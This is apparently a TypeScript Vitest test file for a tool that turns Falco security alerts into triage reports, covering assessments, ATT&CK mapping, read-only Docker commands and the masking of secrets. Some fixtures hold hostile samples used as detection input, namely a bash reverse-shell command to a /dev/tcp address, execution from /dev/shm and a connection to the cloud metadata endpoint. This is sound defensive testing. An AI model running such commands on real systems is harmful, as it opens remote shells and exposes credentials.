import { describe, expect, test } from 'vitest'
import { problemsIn } from '../../src/report/verify.ts'
import { anEvent, morning } from '../event.ts'
import { alertOf, bareEvent, bucketPolicy, commandsOf, materialOf, reportOn, secretRead, selfTest, textOf } from './material.ts'

describe("a report on a run of Falco's event generator", () => {
  const report = reportOn(selfTest)
  const assessment = textOf(report, 'Assessment')

  test('says that it is very likely a self-test, how sure that is, and why not certain', () => {
    expect(assessment).toContain('Very likely a Falco self-test with the event generator, and benign if somebody ran it.')
    expect(assessment).toMatch(/Confidence: high, because two marks .* not certain, because the name .* can be forged/)
  })

  test('shows the marks that it stands on: the file, the parent, and the action made for this rule', () => {
    expect(assessment).toContain('falco-event-generator-syscall-ExecutionFromDevShm-')
    expect(assessment).toContain('syscall.ExecutionFromDevShm is made to set off this very rule')
    expect(assessment).toContain('proc.pname is event-generator')
  })

  test('tells the shell from the binary behind it and from the script that it was given', () => {
    expect(assessment).toContain('The process is called sh; /bin/busybox is the binary behind it')
    expect(assessment).toContain('Whether the script that it was given then ran, and how it ended, the event does not show.')
    expect(assessment).toContain('The result SUCCESS is that of the system call execve of sh')
  })

  test('names host, container, user, parent, command line, time and terminal', () => {
    const details = textOf(report, 'Event details')
    for (const line of [
      'Host: lab-1',
      'Container: peaceful_mestorf',
      'User: root',
      'Parent: event-generator',
      'Terminal: 34816 (/dev/pts/0)',
    ])
      expect(details).toContain(line)
    expect(details).toContain('Time: 2026-10-05T13:00:57.015051634Z (UTC)')
    expect(details).toContain('Login session: -1 (no login session)')
  })

  test('maps it to T1059.004, by the tags and nothing else', () => {
    expect(textOf(report, 'ATT&CK')).toContain('T1059.004 Unix Shell (https://attack.mitre.org/techniques/T1059/004)')
    expect(textOf(report)).not.toMatch(/T1566|phish/i)
  })

  test.each([
    ['a malicious process, or malware', /malicious|malware/i],
    ['a vulnerability or a misconfiguration', /vulnerab|misconfig/i],
    ['a maturity that could be raised', /upgrade|raise the maturity/i],
    ['a change of modes on shared memory', /chmod|remount/],
    ['a list of trusted files', /whitelist|allowlist|\/etc\/falco/],
    ['settings that Falco does not have', /sources:|severity:|EICAR|falco\.conf/],
    ['that the script was executed', /script (?:was|is being) executed/],
    ['a blocked attack', /blocked|prevented/],
  ])('does not speak of %s', (_what, pattern) => {
    expect(textOf(report)).not.toMatch(pattern)
  })

  test('offers commands that only read, for the container under Docker', () => {
    expect(commandsOf(report)).toEqual([
      "docker inspect --format '{{.Config.Image}} {{.Image}} {{.Config.Cmd}} {{.State.StartedAt}}' c61b4b13ae44",
      'docker top c61b4b13ae44',
      'docker diff c61b4b13ae44',
      'docker logs --timestamps --since 2026-10-05T12:50:57Z --until 2026-10-05T13:10:57Z c61b4b13ae44',
      'findmnt -no OPTIONS /dev/shm',
      `nsenter -t "$(docker inspect -f '{{.State.Pid}}' c61b4b13ae44)" -m findmnt /dev/shm`,
      'crictl ps -a --id c61b4b13ae44',
    ])
  })

  test('sees in other alerts nearby what fits a test run', () => {
    const other = (id: string, rule: string) => ({ ...alertOf({ ...selfTest, rule, time: '2026-10-05T13:00:47Z' }, id) })
    const related = textOf(
      reportOn(selfTest, { related: [other('a1', 'Fileless execution via memfd_create'), other('a2', 'Clear Log Activities')] }),
      'Related alerts',
    )
    expect(related).toContain('Fileless execution via memfd_create on peaceful_mestorf, Warning, 10 s before; one event, open (alert a1).')
    expect(related).toContain('Several rules at once fit a test run')
  })

  test('is not taken in by one mark alone', () => {
    const fields = new Map([...selfTest.fields, ['proc.pname', 'java'], ['proc.pcmdline', 'java -jar shop.jar']])
    const text = textOf(reportOn({ ...selfTest, fields }), 'Assessment')
    expect(text).toContain('Perhaps a Falco self-test')
    expect(text).toContain('Confidence: low, because only one mark')
  })

  test('is not taken in by a test that opens an alert which other events then join', () => {
    const intruder = {
      ...selfTest,
      fields: new Map([
        ['proc.cmdline', '/dev/shm/.x'],
        ['proc.name', '.x'],
      ]),
    }
    const events = [selfTest, intruder].map((event) => ({ event, receivedAt: morning, verdict: 'fold' as const }))
    const folded = reportOn(selfTest, { events, alert: { ...alertOf(selfTest), count: 2 } })
    expect(textOf(folded, 'Assessment')).toContain('1 of the 2 events looked at do not')
    expect(textOf(folded, 'Related alerts')).toContain('1 other command line, for one /dev/shm/.x')
    expect(problemsIn(folded)).toEqual([])
  })
})

describe('a report says what the fields support', () => {
  const assess = (fields: Parameters<typeof anEvent>[0]) => textOf(reportOn(anEvent(fields)), 'Assessment')

  test('nothing that settles it: the verdict stays open, with low confidence either way', () => {
    expect(assess({})).toMatch(/Not settled by the event.*\nConfidence: low either way/)
  })

  test('a reverse shell in the command line is suspicious', () => {
    const text = assess({ fields: { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.24/4444 0>&1' } })
    expect(text).toMatch(/^Suspicious until somebody explains it\.\nConfidence: medium/)
    expect(text).toContain('(/dev/tcp/203.0.113.24/4444)')
  })

  test('a shell beneath a web server is suspicious', () => {
    expect(assess({ fields: { 'proc.pname': 'php-fpm' } })).toContain('bash runs beneath php-fpm, a web server')
  })

  test('a binary that did not come with the image is suspicious, one that did is not', () => {
    expect(assess({ fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' } })).toContain('it did not come with the image')
    expect(assess({ fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER' } })).toMatch(/Not settled[^]*came with the image/)
  })

  test('an errno is a failed attempt, a connection under way is not', () => {
    expect(assess({ fields: { 'evt.res': 'EPERM' } })).toContain('An attempt that failed (EPERM)')
    expect(assess({ fields: { 'evt.type': 'connect', 'evt.res': 'EINPROGRESS' } })).toContain('Not settled')
  })

  test("the cloud's metadata service is named for what it hands out", () => {
    const fields = { 'evt.type': 'connect', 'fd.name': '10.0.0.4:50000->169.254.169.254:80', 'fd.rport': 80 }
    expect(assess({ fields })).toContain("169.254.169.254 is the cloud's metadata service")
  })

  test('a turned down API request is a failed attempt', () => {
    expect(textOf(reportOn(secretRead), 'Assessment')).toContain('An attempt that failed (403)')
  })

  test('a bucket policy for everybody is suspicious, and is shown without braces', () => {
    const report = reportOn(bucketPolicy)
    expect(textOf(report, 'Assessment')).toContain('allows something to everybody')
    expect(textOf(report, 'Event details')).toContain('Statement: (Effect: Allow; Principal: *; Action: s3:GetObject)')
  })

  test('lost events are a blind spot and no threat', () => {
    const fields = { n_drops: '28901', n_evts: '173406' }
    const report = reportOn(bareEvent({ rule: 'Falco internal: syscall event drop', source: 'internal', tags: [] }, fields))
    expect(textOf(report, 'Summary')).toContain('Falco lost 28901 of 173406 events')
  })
})

describe('a report says where it knows nothing', () => {
  const custom = bareEvent({ rule: 'Our own rule', tags: [], output: 'something happened' }, {})
  const report = reportOn(custom)

  test('a rule that is not official', () => {
    expect(textOf(report, 'Rule and its meaning')).toBe(
      'This rule is not in the catalogue of official rules: its meaning is known to whoever wrote it.',
    )
    expect(report.title).toBe('Report on alert k3m9x2p7')
  })

  test('an event without tags for ATT&CK', () => {
    expect(textOf(report, 'ATT&CK')).toBe("ATT&CK: not mapped by the rule's tags.")
  })

  test('an event without fields, which leaves the text of its rule', () => {
    expect(textOf(report, 'Summary')).toContain('The event has no output fields')
    expect(textOf(report, 'Summary')).toContain("The rule's own text says: something happened")
    expect(problemsIn(report)).toEqual([])
  })

  test('an event whose text is no longer kept, of which only the alert tells', () => {
    const shell = anEvent()
    const forgotten = { ...shell, raw: '', output: undefined, tags: [], fields: new Map() }
    const report = reportOn(forgotten, { alert: alertOf(shell) })
    expect(textOf(report, 'Summary')).toContain("The event's text is no longer kept (retain in falconer.yml), so little can be said of it")
    expect(textOf(report, 'Conclusion')).toContain("low either way, because the event's text is no longer kept.")
    expect(textOf(report, 'ATT&CK')).toContain("This is by the rule's tags")
    expect(textOf(report)).not.toMatch(/no output fields|carries none|no field tells/)
    expect(problemsIn(report)).toEqual([])
  })

  test('the newest event of an alert, where what opened it is forgotten', () => {
    const [opening, newest] = [anEvent(), anEvent({ hostname: 'node-8' })]
    const events = [
      { event: newest, receivedAt: morning, verdict: 'fold' as const },
      { event: { ...opening, raw: '' }, receivedAt: morning, verdict: 'open' as const },
    ]
    const report = reportOn(newest, { alert: { ...alertOf(opening), count: 2 }, events })
    expect(textOf(report, 'Event details')).toContain('These are the details of the newest event of the alert, one of 2.')
    expect(problemsIn(report)).toEqual([])
  })

  test('a source that no command fits', () => {
    const okta = bareEvent({ source: 'okta', rule: 'Creating a new OKTA API token', tags: [] }, { 'okta.actor.name': 'ana' })
    expect(textOf(reportOn(okta), 'Next steps')).toContain('No command of ours fits this event')
  })

  test('an alert without company', () => {
    const searched = { from: morning - 3_600_000, until: morning }
    expect(textOf(reportOn(selfTest, { searched }), 'Related alerts')).toBe(
      'No other alert on the same workload or hosts was found in the ledger between 2026-11-24T08:30:00.000Z and 2026-11-24T09:30:00.000Z.',
    )
  })

  test('fields that the rule prints and the event lacks', () => {
    expect(textOf(reportOn(selfTest), 'Event details')).toContain(
      'the event has no value for them: fd.name, user.loginname, group.gid, group.name',
    )
  })
})

describe('a report shows', () => {
  test('what people did so far, with their words apart from ours', () => {
    const facts = [
      { kind: 'acknowledged', at: morning, by: 'U1' },
      { kind: 'resolved', at: morning, by: 'U1', outcome: 'benign', note: 'planned work' },
    ] as const
    const report = reportOn(anEvent(), { facts })
    expect(textOf(report, 'Related alerts')).toContain('U1 resolved it as benign, 2026-11-24T09:30:00.000Z, saying planned work.')
    expect(problemsIn(report)).toEqual([])
  })

  test('secrets masked', () => {
    const report = reportOn(anEvent({ fields: { 'proc.cmdline': 'mysql --password=hunter2hunter2 shop' } }))
    expect(JSON.stringify(report)).not.toContain('hunter2')
    expect(textOf(report)).toContain('[masked]')
  })

  test("where the official rule's own text misleads", () => {
    const rule = 'Admin permission has been assigned to a user in OKTA'
    const report = reportOn(bareEvent({ rule, source: 'okta', tags: [] }, { 'okta.actor.name': 'ana' }))
    expect(textOf(report, 'Rule and its meaning')).toContain('To be read with care: The output text says')
  })

  test('where the official rule has to be changed before it can fire', () => {
    const report = reportOn(bareEvent({ rule: 'Create Disallowed Pod', source: 'k8s_audit', tags: [] }, { 'ka.user.name': 'ana' }))
    expect(textOf(report, 'Rule and its meaning')).toContain('cannot fire, because the macro allowed_k8s_containers allows every pod')
  })

  test('that tags disagree with ATT&CK', () => {
    const report = reportOn(anEvent({ rule: 'Contact K8S API Server From Container', tags: ['T1565', 'mitre_discovery'] }))
    expect(textOf(report, 'ATT&CK')).toContain('The tags disagree with ATT&CK: they put T1565 with Discovery')
  })

  test("the catalogue's tags where Falco sends none", () => {
    const report = reportOn(anEvent({ tags: [] }))
    expect(textOf(report, 'ATT&CK')).toContain("the catalogue's tags for this rule, because the event carries none")
  })

  test('a value of any length as a part of bearable length', () => {
    const report = reportOn(anEvent({ fields: { 'proc.cmdline': `run ${'x'.repeat(100_000)}` } }))
    expect(JSON.stringify(report).length).toBeLessThan(40_000)
    expect(problemsIn(report)).toEqual([])
  })

  test('the same material twice as the same report', () => {
    expect(reportOn(selfTest)).toEqual(reportOn(materialOf(selfTest).sample))
  })
})
